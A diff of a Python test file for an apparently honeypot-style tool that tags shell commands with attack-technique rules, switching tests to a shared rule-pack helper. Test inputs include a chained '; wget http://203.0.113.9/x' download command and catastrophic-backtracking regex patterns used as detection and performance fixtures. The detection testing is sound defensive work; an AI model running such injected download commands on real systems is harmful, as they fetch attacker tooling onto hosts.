@@ -4,16 +4,14 @@ from __future__ import annotations
 
 import base64
 import time
-from functools import cache
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from decnet.config import packaged_rules_dir
 from decnet.shell import MAX_VIEWS, View, Views, views
-from decnet.ttp.loader import load_dir
 from decnet.ttp.matcher import Failures, RuleIndex
+from tests.packkit import index as pack_index
 
 SIZE = 100_000
 
@@ -185,7 +183,7 @@ def test_a_here_document_is_text_of_its_command():
     assert "wget http://y" in cat.text
 
 
-@settings(deadline=None, max_examples=300)
+@settings(deadline=None, max_examples=150)
 @given(st.text(st.sampled_from("ab ;|&'\"\\$`(){}<>#\n=-x") | st.characters(codec="utf-8"), max_size=200))
 def test_any_text_has_bounded_views_and_is_itself_the_first(line):
     seen = views(line)
@@ -233,11 +231,6 @@ HARMLESS = {
 NESTED_QUANTIFIERS = ("(a+)+$", "^(\\w+\\s?)*$", "(x+x+)+y", "(?:a|aa)+b$", "(.*)*z{3}q")
 
 
-@cache
-def pack() -> RuleIndex:
-    return RuleIndex(load_dir(packaged_rules_dir()).rules)
-
-
 def best_ms(work, times: int = 4) -> float:
     best = 1e9
     for _ in range(times):
@@ -250,7 +243,7 @@ def best_ms(work, times: int = 4) -> float:
 @pytest.mark.parametrize("name", PADDING)
 def test_padding_beyond_the_bounds_is_tagged_by_a_shipped_rule(name):
     assert views(PADDING[name]).capped
-    hits, capped = pack().command_hits(PADDING[name] + "; wget http://203.0.113.9/x", {}, Failures())
+    hits, capped = pack_index().command_hits(PADDING[name] + "; wget http://203.0.113.9/x", {}, Failures())
     assert capped
     assert "R0990" in {hit.rule.rule_id for hit in hits}
 
@@ -259,8 +252,8 @@ def test_padding_beyond_the_bounds_is_tagged_by_a_shipped_rule(name):
 def test_100_kb_of_anything_cost_linear_time(name):
     text = (PADDING | HARMLESS)[name]
     half, whole = text[: SIZE // 2], text[:SIZE]
-    pack().command_hits(whole, {}, Failures())
-    assert best_ms(lambda: pack().command_hits(whole, {}, Failures())) < 150
+    pack_index().command_hits(whole, {}, Failures())
+    assert best_ms(lambda: pack_index().command_hits(whole, {}, Failures())) < 150
     assert best_ms(lambda: views(whole)) < 12 + 4 * best_ms(lambda: views(half))
 
 
@@ -287,6 +280,6 @@ def test_a_session_of_3000_commands_and_1_mb_is_tagged_whole():
     assert sum(map(len, lines)) > 1_000_000
     failures = Failures()
     start = time.process_time()
-    found = [pack().command_hits(line, {}, failures)[0] for line in lines]
+    found = [pack_index().command_hits(line, {}, failures)[0] for line in lines]
     assert time.process_time() - start < 5
     assert all(any(h.rule.emits[0].technique_id == "T1105" for h in hits) for hits in found)
